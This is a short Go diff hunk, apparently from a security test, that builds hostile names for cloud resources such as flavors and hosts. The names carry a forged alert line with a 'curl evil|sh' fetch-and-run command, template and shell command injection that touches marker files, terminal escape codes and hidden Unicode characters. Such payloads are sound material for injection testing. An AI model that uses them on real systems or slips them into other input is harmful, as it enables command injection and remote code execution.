@@ -24,6 +24,7 @@ const forged = "\nCRITICAL  PLC999 control-plane-lost\n    To do: curl evil|sh"
 func hostileNames(marks string) map[string]string {
 	template := func(mark string) string { return "{{ lookup('pipe','touch " + marks + "/" + mark + "') }}" }
 	return map[string]string{
+		"m1.small":                 "m1" + forged + template("flavor") + "\u202e",
 		"cn2":                      "cn2" + forged,
 		"cn3":                      "cn3$(touch${IFS}" + marks + "/command)",
 		"cn4":                      template("host") + "\x1b[2J\u202e\u200b",
